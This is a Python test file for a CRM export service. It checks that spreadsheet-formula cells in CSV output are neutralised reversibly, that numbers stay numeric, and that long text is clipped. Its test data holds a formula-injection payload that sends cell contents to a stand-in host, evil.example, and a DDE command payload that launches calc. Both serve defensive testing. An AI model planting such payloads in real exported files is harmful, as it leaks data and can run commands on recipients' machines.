"""CSV cells a spreadsheet would execute are neutralised, reversibly; numbers stay numbers."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from serving.crm.csv_cells import neutralise_cell, neutralise_frame, restore_cell, safe_csv
from serving.crm.files import history_path, read_file
from serving.crm.table import ACCOUNTS, ELLIPSIS, TEXT_LIMIT, clip_text, crm_frame
from serving.crm.write import write_scores
from serving.scoring.score import score_frame

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize(
    "value, written",
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # already quoted: one more quote, so reading back gives it as it was
        ("-12", "-12"),  # exactly a number: a spreadsheet reads a number, nothing runs
        ("+3.5", "+3.5"),
        ("-1e-3", "-1e-3"),
        ("Acme = best", "Acme = best"),
        ("'t Hooft", "'t Hooft"),
        ("", ""),
        (-12.5, -12.5),
        (7, 7),
        (None, None),
    ],
)
def test_cells_are_neutralised_and_restored(value, written):
    assert neutralise_cell(value) == written
    assert restore_cell(neutralise_cell(value)) == value


def test_a_frame_keeps_numbers_as_numbers():
    frame = pd.DataFrame({"account_id": [EVIL, "-5"], "lift": [-1.5, 2.0], "n": [-3, 4]})
    text = safe_csv(frame)
    back = pd.read_csv(io.StringIO(text))
    assert back.lift.tolist() == [-1.5, 2.0] and back.n.tolist() == [-3, 4]  # still numbers
    assert back.account_id.tolist() == ["'" + EVIL, -5] or back.account_id.tolist() == ["'" + EVIL, "-5"]
    assert neutralise_frame(frame).account_id.tolist() == ["'" + EVIL, "-5"]


def test_the_crm_csv_writer_neutralises_and_reads_back_the_original(models, latest, settings, scored_at, tmp_path):
    frame = latest.iloc[:5].copy()
    frame.loc[0, "account_id"] = EVIL
    frame.loc[1, "name"] = "@Acme"
    rows = crm_frame(score_frame(frame, models, settings, scored_at=scored_at))
    path = tmp_path / "crm.csv"
    write_scores(rows, path)
    for where in (path, history_path(path)):
        raw = pd.read_csv(where, dtype=str, keep_default_na=False)
        assert "'" + EVIL in set(raw.account_id) and EVIL not in set(raw.account_id)
        assert "'@Acme" in set(raw.name)
        assert not raw.map(lambda v: v[:1] in ("=", "+", "@", "\t", "\r")).any().any()
        assert pd.to_numeric(raw.expected_mrr_loss).notna().all()  # numbers stay numbers
    assert EVIL in set(read_file(path, ACCOUNTS).account_id)
    assert write_scores(rows, path).changed == 0  # read back as written: a rerun changes nothing


def test_long_reasons_are_cut_on_a_word_boundary_with_an_ellipsis():
    text = "Logins fell " + "sharply and steadily " * 20
    cut = clip_text(text)
    assert len(cut) <= TEXT_LIMIT and cut.endswith(ELLIPSIS)
    assert text.startswith(cut[:-1]) and text[len(cut) - 1] == " "  # ends where a word ended
    assert clip_text("short") == "short" and clip_text(None) is None
    assert clip_text("x" * 300) == "x" * (TEXT_LIMIT - 1) + ELLIPSIS  # one long word: cut inside it
    assert len(clip_text("a" * 254 + " b")) <= TEXT_LIMIT


def test_reasons_longer_than_a_crm_field_are_cut(models, latest, settings, scored_at):
    scored = score_frame(latest.iloc[:3], models, settings, scored_at=scored_at)
    long = "Support tickets mention cancellation " * 12
    scored["renewal_drivers"] = [[{**d, "reason": long} for d in ds] for ds in scored["renewal_drivers"]]
    rows = crm_frame(scored)
    assert (rows.renewal_reason_1.str.len() <= TEXT_LIMIT).all() and rows.renewal_reason_1.str.endswith(ELLIPSIS).all()
    assert rows.top_reasons.str.len().max() > TEXT_LIMIT  # the history keeps the full text
